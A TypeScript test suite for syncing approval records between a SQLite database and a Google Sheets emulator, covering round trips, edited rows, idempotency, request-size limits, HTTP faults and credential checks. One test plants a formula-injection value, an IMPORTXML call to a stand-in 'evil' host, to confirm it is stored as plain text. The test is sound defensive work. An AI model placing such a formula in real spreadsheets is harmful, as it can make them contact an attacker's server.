// Export and import through googleapis over real HTTP against the emulator, on real SQLite files.
import fs from 'node:fs';
import path from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { openDatabase } from '../src/db/sqlite';
import { seedDemo } from '../src/db/demo-seed';
import { atlasPaths } from '../src/paths';
import { SheetsError, sheetsApi } from '../src/sheets/client';
import { APPROVAL_HEADER, TAB } from '../src/sheets/layout';
import { checkConnectivity } from '../src/sheets/doctor';
import { exportApprovals, importDecisions } from '../src/sheets/sync';
import { useAtlas, type Atlas } from './helpers/atlas';

/** The Atlas of the running test: each describe below sets up its own. */
let t: Atlas;
let atlasDb: string;

const now = () => new Date();
const exportNow = (opts: { full?: boolean; dryRun?: boolean } = {}) => exportApprovals(t.sheets.api(), atlasDb, { ...opts, now: now() });
const importNow = (opts: { forceCheck?: boolean; dryRun?: boolean; lastFingerprint?: string } = {}) => importDecisions(t.sheets.api(), atlasDb, { ...opts, now: now() });

function approval(id: string) {
  return openDatabase(atlasDb, { readonly: true }).prepare('SELECT * FROM approvals WHERE id = ?').get(id) as {
    id: string; status: string; decided_at: string | null; decided_by: string | null; note: string | null;
  };
}

function pendingIds(): string[] {
  return openDatabase(atlasDb, { readonly: true }).prepare("SELECT id FROM approvals WHERE status = 'pending' ORDER BY requested_at, id").pluck().all() as string[];
}

async function expectSheetsError(p: Promise<unknown>, type: string, message?: RegExp): Promise<SheetsError> {
  const err = await p.then(() => undefined, (e: unknown) => e);
  expect(err).toBeInstanceOf(SheetsError);
  expect((err as SheetsError).type).toBe(type);
  if (message) expect((err as SheetsError).message).toMatch(message);
  return err as SheetsError;
}

describe('sheets sync', () => {
  const atlas = useAtlas({ sheets: true }, { each: true });
  beforeEach(() => {
    t = atlas;
    atlasDb = atlasPaths(t.home).atlasDb;
  });

  it('round trip: export, a person decides, import applies, export shows the new status', async () => {
    const pending = pendingIds();
    expect(pending.length).toBeGreaterThan(5);
    const first = await exportNow();
    expect(first.added).toBe(pending.length);
    expect(first.requests).toBeLessThanOrEqual(2);
    expect(t.sheets.rows()[0]).toEqual([...APPROVAL_HEADER]);
    expect(t.sheets.rows().slice(1).map((r) => r[0])).toEqual(pending);
    expect(t.sheets.rows().slice(1).every((r) => r[5] === 'pending')).toBe(true);
    expect(t.sheets.rows(TAB.tasks)[0]?.[0]).toBe('task_id');

    const [a, b] = pending;
    t.sheets.type(a!, 'G', 'Approve');
    t.sheets.type(a!, 'H', 'dana@example.com');
    t.sheets.type(a!, 'I', 'ship it');
    t.sheets.type(b!, 'G', ' REJECTED ');
    const imported = await importNow();
    expect(imported.applied.map((x) => [x.id, x.status])).toEqual([[a, 'approved'], [b, 'rejected']]);
    expect(approval(a!)).toMatchObject({ status: 'approved', decided_by: 'dana@example.com', note: 'ship it' });
    expect(approval(a!).decided_at).toMatch(/^\d{4}-/);
    // An empty decided_by (trailing cells omitted by the API) is recorded as "sheet".
    expect(approval(b!)).toMatchObject({ status: 'rejected', decided_by: 'sheet', note: null });
    expect(t.sheets.rows()[t.sheets.rowOf(a!) - 1]![9]).toMatch(/^applied: approved at /);

    const second = await exportNow();
    expect(second.updated).toBe(2);
    expect(t.sheets.rows()[t.sheets.rowOf(a!) - 1]![5]).toBe('approved');
    // The human's cells are untouched by export.
    expect(t.sheets.rows()[t.sheets.rowOf(a!) - 1]!.slice(6, 9)).toEqual(['Approve', 'dana@example.com', 'ship it']);
    expect(t.sheets.rows(TAB.status)[1]?.[1]).toMatch(/^\d{4}-/);
  });

  it('a decision typed before an export survives it, and is applied once by the import after', async () => {
    await exportNow();
    const [a] = pendingIds();
    t.sheets.type(a!, 'G', 'yes');
    // New work arrives in atlas.db: the next export appends a row and updates nothing else.
    const db = openDatabase(atlasDb);
    db.prepare("INSERT INTO approvals (id, task_id, summary, requested_at, status) SELECT 'A-NEW-1', id, 'new one', '2030-01-01T00:00:00.000Z', 'pending' FROM tasks LIMIT 1").run();
    db.close();
    const before = t.sheets.writes();
    const e = await exportNow({ full: true });
    expect(e.added).toBe(1);
    expect(t.sheets.writes()).toBe(before + 1);
    expect(t.sheets.rows()[t.sheets.rowOf(a!) - 1]![6]).toBe('yes');
    const i = await importNow();
    expect(i.applied).toEqual([{ id: a, status: 'approved', row: t.sheets.rowOf(a!) }]);
    const again = await importNow({ forceCheck: true });
    expect(again.applied).toEqual([]);
    expect(again.alreadyApplied).toBe(1);
  });

  it('people sort rows, delete a row and leave trailing cells empty: decisions land on the right approvals', async () => {
    await exportNow();
    const ids = pendingIds();
    const rows = t.sheets.rows();
    // Sort descending by approval id, and delete the row of ids[2].
    const body = rows.slice(1).filter((r) => r[0] !== ids[2]).sort((x, y) => String(y[0]).localeCompare(String(x[0])));
    rows.splice(1, rows.length - 1, ...body);
    t.sheets.emu.store.save();
    t.sheets.type(ids[0]!, 'G', 'reject');
    t.sheets.type(ids[1]!, 'G', 'approve');
    t.sheets.type(ids[1]!, 'I', 'only a note, no decided_by');
    const e = await exportNow();
    expect(e.added).toBe(1);
    expect(t.sheets.rowOf(ids[2]!)).toBe(t.sheets.rows().length);
    expect(new Set(t.sheets.rows().slice(1).map((r) => r[0])).size).toBe(ids.length);
    const i = await importNow();
    expect(Object.fromEntries(i.applied.map((x) => [x.id, x.status]))).toEqual({ [ids[0]!]: 'rejected', [ids[1]!]: 'approved' });
    expect(approval(ids[1]!)).toMatchObject({ status: 'approved', decided_by: 'sheet', note: 'only a note, no decided_by' });
    expect(approval(ids[2]!).status).toBe('pending');
  });

  it('an invalid decision gets a sync_note and stays pending; odd cell contents are kept exactly', async () => {
    await exportNow();
    const [a, b, c, d] = pendingIds();
    t.sheets.type(a!, 'G', 'maybe');
    t.sheets.type(b!, 'G', 45000); // a number
    t.sheets.type(c!, 'G', 'approve');
    t.sheets.type(c!, 'H', 12345);
    const long = `Ünïcödé 😀 مرحبا 你好 ${'x'.repeat(40_000)}`;
    t.sheets.type(c!, 'I', long);
    t.sheets.type(d!, 'G', '2026-01-05'); // a date
    const i = await importNow();
    expect(i.applied.map((x) => x.id)).toEqual([c]);
    expect(i.notApplied.map((n) => n.id).sort()).toEqual([a, b, d].sort());
    for (const id of [a, b, d]) {
      expect(approval(id!).status).toBe('pending');
      expect(t.sheets.rows()[t.sheets.rowOf(id!) - 1]![9]).toMatch(/^not applied: ".*" is not a decision/);
    }
    expect(approval(c!)).toMatchObject({ status: 'approved', decided_by: '12345', note: long });
  });

  it('text that starts with = + - @ is written RAW and stays text', async () => {
    const db = openDatabase(atlasDb);
    const ids = db.prepare("SELECT id FROM approvals WHERE status = 'pending' ORDER BY requested_at, id LIMIT 4").pluck().all() as string[];
    const texts = ['=IMPORTXML("http://evil","//a")', '+1+1', '-2', '@SUM(A1)'];
    ids.forEach((id, k) => db.prepare('UPDATE approvals SET summary = ? WHERE id = ?').run(texts[k], id));
    db.close();
    await exportNow();
    ids.forEach((id, k) => {
      const cell = t.sheets.rows()[t.sheets.rowOf(id) - 1]![3];
      expect(cell).toBe(texts[k]);
      expect(typeof cell).toBe('string');
    });
    // Whereas a person typing = gets a formula (USER_ENTERED): the emulator tells them apart.
    t.sheets.set('Status!D1', '=1+1');
    expect(t.sheets.emu.store.cell(t.sheets.emu.spreadsheetId, 'Status!D1')).toEqual({ f: '=1+1' });
  });

  it('re-import applies nothing twice; an unchanged sheet costs one read and no write', async () => {
    await exportNow();
    const ids = pendingIds().slice(0, 3);
    for (const id of ids) t.sheets.type(id, 'G', 'approve');
    const first = await importNow();
    expect(first.applied).toHaveLength(3);
    const decidedAt = ids.map((id) => approval(id).decided_at);
    const writes = t.sheets.writes();
    const again = await importNow({ lastFingerprint: first.fingerprint });
    expect(again.unchanged).toBe(true);
    expect(again.requests).toBe(1);
    const forced = await importNow({ forceCheck: true, lastFingerprint: first.fingerprint });
    expect(forced.applied).toEqual([]);
    expect(forced.alreadyApplied).toBe(3);
    expect(t.sheets.writes()).toBe(writes);
    expect(ids.map((id) => approval(id).decided_at)).toEqual(decidedAt);
    // A person changes their mind after the decision was applied: reported, not applied.
    t.sheets.type(ids[0]!, 'G', 'reject');
    const changed = await importNow();
    expect(changed.applied).toEqual([]);
    expect(changed.notApplied[0]).toMatchObject({ id: ids[0], reason: expect.stringMatching(/already approved/) });
    expect(approval(ids[0]!).status).toBe('approved');
  });

  it('an export larger than Google\'s 10 MiB request limit goes out in several requests and lands whole', async () => {
    // 130 approvals with 45 000-character summaries of a two-byte letter: about 11.7 MB of rows.
    const db = openDatabase(atlasDb, { wal: true });
    const task = db.prepare('SELECT id FROM tasks LIMIT 1').pluck().get() as string;
    const insert = db.prepare("INSERT INTO approvals (id, task_id, summary, requested_at, status) VALUES (?, ?, ?, ?, 'pending')");
    db.transaction(() => {
      for (let i = 0; i < 130; i++) insert.run(`A-BIG-${String(i).padStart(3, '0')}`, task, `${i} ${'é'.repeat(45_000)}`, new Date(Date.UTC(2026, 10, 1, 0, i)).toISOString());
    })();
    db.close();
    t.sheets.emu.resetStats();
    const e = await exportNow();
    const ids = pendingIds();
    expect(e.added).toBe(ids.length);
    const stats = t.sheets.emu.stats();
    expect(stats.byMethod['values.batchUpdate']).toBeGreaterThanOrEqual(2);
    expect(e.requests).toBe(stats.requests);
    // Every pending approval is in the sheet, its summary whole, each exactly once.
    const sheet = t.sheets.rows().slice(1);
    expect(sheet.map((r) => r[0]).sort()).toEqual([...ids].sort());
    expect(sheet.find((r) => r[0] === 'A-BIG-129')?.[3]).toBe(`129 ${'é'.repeat(45_000)}`);
    const quiet = await exportNow();
    expect(quiet.rowsWritten).toBe(0);
  });

  it('dry runs change nothing', async () => {
    const writes = t.sheets.writes();
    const e = await exportNow({ dryRun: true });
    expect(e.added).toBeGreaterThan(0);
    expect(e.changes.length).toBeGreaterThan(0);
    expect(t.sheets.writes()).toBe(writes);
    expect(t.sheets.rows()).toEqual([]);
    await exportNow();
    const [a] = pendingIds();
    t.sheets.type(a!, 'G', 'approve');
    const w2 = t.sheets.writes();
    const i = await importNow({ dryRun: true });
    expect(i.applied.map((x) => x.id)).toEqual([a]);
    expect(approval(a!).status).toBe('pending');
    expect(t.sheets.writes()).toBe(w2);
  });

  it('a header row moved or renamed stops both directions with a clear error and writes nothing', async () => {
    await exportNow();
    const [a] = pendingIds();
    t.sheets.type(a!, 'G', 'approve');
    t.sheets.set('Approvals!G1', 'verdict');
    const writes = t.sheets.writes();
    await expectSheetsError(exportNow(), 'SheetsLayoutError', /Approvals!G1 should be "decision" but is "verdict"/);
    await expectSheetsError(importNow(), 'SheetsLayoutError', /nothing was written/);
    t.sheets.set('Approvals!G1', 'decided_by');
    t.sheets.set('Approvals!H1', 'decision');
    await expectSheetsError(importNow(), 'SheetsLayoutError', /moved to H/);
    expect(t.sheets.writes()).toBe(writes);
    expect(approval(a!).status).toBe('pending');
  });

  it('a missing tab is created by export; import without the Approvals tab says what to do', async () => {
    t.sheets.emu.store.deleteSheet(t.sheets.emu.spreadsheetId, TAB.approvals);
    t.sheets.emu.store.deleteSheet(t.sheets.emu.spreadsheetId, TAB.status);
    await expectSheetsError(importNow(), 'SheetsTabMissing', /atlas-ops sync export/);
    const e = await exportNow();
    expect(e.tabsCreated).toEqual([TAB.approvals, TAB.status]);
    expect(t.sheets.rows()[0]).toEqual([...APPROVAL_HEADER]);
    expect(e.requests).toBe(5);
  });

  it('timeouts, 429 and 5xx are retryable failures; 429 carries its Retry-After', async () => {
    t.sheets.emu.fault({ kind: 'latency', latencyMs: 1500 });
    const slow = await expectSheetsError(exportApprovals(sheetsApi(t.sheets.config, { timeoutMs: 300 }), atlasDb, { now: now() }), 'SheetsUnreachable', /did not answer within sheets.requestTimeout/);
    expect(slow.retryable).toBe(true);
    t.sheets.emu.fault({ kind: 'latency', latencyMs: 1500 });
    const configured = { ...t.sheets.config, sheets: { ...t.sheets.config.sheets, requestTimeout: 300 } };
    await expectSheetsError(exportApprovals(sheetsApi(configured), atlasDb, { now: now() }), 'SheetsUnreachable', /did not answer/);
    t.sheets.emu.fault({ kind: 429, retryAfterSeconds: 2 });
    const limited = await expectSheetsError(exportNow(), 'SheetsRateLimited');
    expect(limited.retryable).toBe(true);
    expect(limited.options.retryAfterMs).toBe(2000);
    t.sheets.emu.fault({ kind: 500 });
    expect((await expectSheetsError(importNow(), 'SheetsUnavailable')).retryable).toBe(true);
    t.sheets.emu.fault({ kind: 'reset' });
    expect((await expectSheetsError(importNow(), 'SheetsUnreachable')).retryable).toBe(true);
    t.sheets.emu.fault({ kind: 403 });
    expect((await expectSheetsError(importNow(), 'SheetsPermissionError')).retryable).toBe(false);
  });

  it('a 200 whose body is not JSON is a retryable failure, never an empty sheet: nothing is written over the rows', async () => {
    await exportNow();
    const [a] = pendingIds();
    t.sheets.type(a!, 'G', 'approve');
    const before = structuredClone(t.sheets.rows());
    t.sheets.emu.resetStats();
    t.sheets.emu.fault({ kind: 'malformed', on: 'read' });
    expect((await expectSheetsError(exportNow(), 'SheetsUnavailable', /HTTP 200 with a body that is not JSON/)).retryable).toBe(true);
    expect(t.sheets.writes()).toBe(0);
    expect(t.sheets.rows()).toEqual(before);
    t.sheets.emu.fault({ kind: 'malformed', on: 'read' });
    await expectSheetsError(importNow(), 'SheetsUnavailable', /not JSON/);
    expect(approval(a!).status).toBe('pending');
    // A garbled reply to the sync_note write: the decision is in atlas.db, the retry writes the note.
    t.sheets.emu.fault({ kind: 'malformed', on: 'write' });
    await expectSheetsError(importNow(), 'SheetsUnavailable', /not JSON/);
    expect(approval(a!).status).toBe('approved');
    expect(await importNow()).toMatchObject({ applied: [], alreadyApplied: 1, notesWritten: 1 });
  });

  it('an unknown spreadsheet id and bad credentials are typed failures', async () => {
    await expectSheetsError(exportApprovals(sheetsApi({ ...t.sheets.config, sheets: { ...t.sheets.config.sheets, spreadsheetId: 'no-such-sheet' } }), atlasDb, { now: now() }), 'SheetsNotFoundError', /no-such-sheet does not exist/);
    const withKey = (file: string) => sheetsApi({ ...t.sheets.config, sheets: { ...t.sheets.config.sheets, credentials: file } });
    const dir = path.join(t.home, 'config');
    expect(() => withKey(path.join(dir, 'missing.json'))).toThrow(/missing.json does not exist/);
    expect(() => withKey(dir)).toThrow(/cannot be read \(EISDIR\)/);
    fs.writeFileSync(path.join(dir, 'user.json'), JSON.stringify({ type: 'authorized_user', client_id: 'x' }));
    // Each is a typed SheetsCredentialsError, not only a message.
    const credentialsError = (message: RegExp) => expect.objectContaining({ type: 'SheetsCredentialsError', message: expect.stringMatching(message) });
    expect(() => withKey(path.join(dir, 'user.json'))).toThrow(credentialsError(/not a service-account key/));
    fs.writeFileSync(path.join(dir, 'junk.json'), 'not json');
    expect(() => withKey(path.join(dir, 'junk.json'))).toThrow(credentialsError(/is not JSON/));
    // doctor sheets names the broken part, and warns about a key others can read.
    const bad = await checkConnectivity({ ...t.sheets.config, sheets: { ...t.sheets.config.sheets, credentials: path.join(dir, 'user.json') } });
    expect(bad).toMatchObject({ ok: false, failed: 'auth', errorType: 'SheetsCredentialsError' });
    const keyFile = path.join(dir, 'sa.json');
    fs.writeFileSync(keyFile, JSON.stringify({ type: 'service_account', client_email: 'x@y.iam.gserviceaccount.com', private_key: 'not shown' }), { mode: 0o644 });
    const good = await checkConnectivity({ ...t.sheets.config, sheets: { ...t.sheets.config.sheets, credentials: keyFile } }, { permissions: true });
    expect(good.ok).toBe(true);
    expect(good.checks.map((c) => c.name)).toEqual(['dns', 'tcp', 'https', 'auth', 'spreadsheet', 'read', 'write']);
    expect(good.checks[3]!.detail).toMatch(/WARNING: .*sa.json has mode 644; run chmod 600/);
    expect(JSON.stringify(good)).not.toMatch(/not shown/);
    // Not loopback and no key: refused before any request.
    expect(() => sheetsApi({ ...t.sheets.config, sheets: { ...t.sheets.config.sheets, rootUrl: 'https://sheets.googleapis.com/' } })).toThrow(/no service-account key configured/);
  });
});

describe('sheets sync at 10 000 approvals', () => {
  const atlas = useAtlas({
    seedTasks: 1,
    sheets: true,
    prepare(a) {
      const db = openDatabase(atlasPaths(a.home).atlasDb);
      seedDemo(db, { tasks: 10_000, pendingShare: 1, seed: 9 });
      db.close();
    },
  }, { each: true });
  beforeEach(() => {
    t = atlas;
    atlasDb = atlasPaths(t.home).atlasDb;
  });

  it('exports and imports in at most 3 requests per run, and a run with no changes writes nothing', async () => {
    const ids = pendingIds();
    expect(ids.length).toBeGreaterThanOrEqual(10_000);
    const e = await exportNow();
    expect(e.added).toBe(ids.length);
    expect(e.requests).toBeLessThanOrEqual(3);
    const writes = t.sheets.writes();
    const quiet = await exportNow();
    expect(quiet.rowsWritten).toBe(0);
    expect(t.sheets.writes()).toBe(writes);
    // A person decides every row (typed straight into the stored sheet).
    const rows = t.sheets.rows();
    for (let r = 1; r < rows.length; r++) rows[r]![6] = r % 3 === 0 ? 'reject' : 'approve';
    t.sheets.emu.store.save();
    const i = await importNow();
    expect(i.applied).toHaveLength(ids.length);
    expect(i.requests).toBeLessThanOrEqual(3);
    expect(pendingIds()).toEqual([]);
    const w2 = t.sheets.writes();
    const again = await importNow({ forceCheck: true });
    expect(again.applied).toEqual([]);
    expect(again.requests).toBeLessThanOrEqual(3);
    expect(t.sheets.writes()).toBe(w2);
  });
});
